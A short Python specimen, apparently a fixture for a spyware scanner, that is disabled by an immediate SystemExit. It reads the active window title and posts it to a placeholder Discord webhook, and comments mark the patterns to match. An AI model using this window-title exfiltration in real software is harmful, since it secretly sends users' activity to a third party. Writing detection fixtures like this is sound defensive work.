raise SystemExit("specimen: not to be run")
import requests
import win32gui

HOOK = "https://discord.com/api/webhooks/000000000000000000/specimen-specimen-specimen"

def tell():
    title = win32gui.GetWindowText(win32gui.GetForegroundWindow())  # match: active-window
    requests.post(HOOK, json={"content": title})  # match: discord-webhook
